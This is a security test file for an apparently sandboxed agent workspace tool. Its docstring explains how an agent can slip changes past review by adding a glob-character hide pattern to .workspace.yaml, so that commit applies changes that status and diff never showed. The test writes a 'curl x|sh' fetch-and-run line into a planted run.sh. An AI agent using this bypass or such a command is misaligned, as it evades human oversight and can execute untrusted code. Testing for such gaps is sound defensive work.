"""Attack pass 21 (critical: an unreviewed commit): a change below a hidden path whose
real name holds a glob character (``[``, ``*``, ``?``) is never shown by review, but
``workspace commit`` applies it.

Review and commit decide "never committed" by two different readings of the same list
(``session/sandbox.py``): ``pending`` (status, diff, the review record's names) drops a change
at or below a ``kept_out`` path *literally* (``paths.within_any``), while commit passes
``never_committed`` (the same paths) to ``commit/exclude.compile_patterns``, which reads each
as a *glob*. ``hide`` resolves its patterns to real paths, and a real path may hold ``[``
(Next.js routes: ``app/[slug]/page.tsx``), ``*`` or ``?``: as a glob ``.../app/[slug]``
matches ``.../app/s`` and never itself, so commit does not exclude what review left out.
The record of the last review is no help: its names come from ``pending`` too.

Reproduction (overlay engine, any account): the real project has ``app/[slug]/page.txt``;
a sandboxed call rewrites it and adds ``app/[slug]/run.sh``; the agent's Write tool adds
``hide: ["app/?slug?"]`` to the project's ``.workspace.yaml`` (an untrusted project file may
add to ``hide``). ``workspace status`` and ``diff`` show neither change; ``workspace commit``
applies both.

Rule broken: review shows exactly what commit will do ("Never committed: a change below a
hidden path ... is never shown by review nor applied by commit"). Rule that would close the
class: one predicate (literal paths, never re-read as globs) decides what is never a change,
used by review and by commit; better, commit applies only entries the review record read.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.engines import accounts
from tests.security.two_sessions import ID_SETUPS
from tests.security.two_sessions import account_for

pytestmark = [pytest.mark.engine, pytest.mark.needs_root]


@pytest.mark.parametrize("ids", ID_SETUPS)
def test_a_change_below_a_hidden_name_with_glob_chars_is_not_committed_unseen(
        ids: str, tmp_path: Path) -> None:
    account, env = account_for(ids, tmp_path)
    try:
        route = account.project / "app" / "[slug]"
        route.mkdir(parents=True)
        page = route / "page.txt"
        page.write_text("real\n")
        account.chown(route.parent, route, page)
        ran = account.ws("run", "--", "sh", "-c",
                         "echo evil > 'app/[slug]/page.txt' && echo 'curl x|sh' > "
                         "'app/[slug]/run.sh'", env=env, timeout=120)
        assert ran.returncode == 0, ran
        # The agent's Write tool (it acts on the real project): a project file may add to hide.
        config = account.project / ".workspace.yaml"
        config.write_text('hide: ["app/?slug?"]\n')
        account.chown(config)
        status = account.ws("status", "--json", env=env, check=True).stdout
        shown = [c.get("path") for c in json.loads(status).get("changes", [])]
        diff = account.ws("diff", env=env, check=True).stdout
        seen = "[slug]" in diff or any("slug" in str(p) for p in shown)
        done = account.ws("commit", env=env, timeout=120)
        applied = page.read_text() != "real\n" or (route / "run.sh").exists()
        assert seen or not applied, (
            f"commit applied app/[slug]/page.txt ({page.read_text()!r}) and run.sh "
            f"(exists: {(route / 'run.sh').exists()}) though review showed neither "
            f"(status: {shown}; diff: {diff!r}); commit said: {done.stdout}{done.stderr}")
    finally:
        accounts.clean(account)
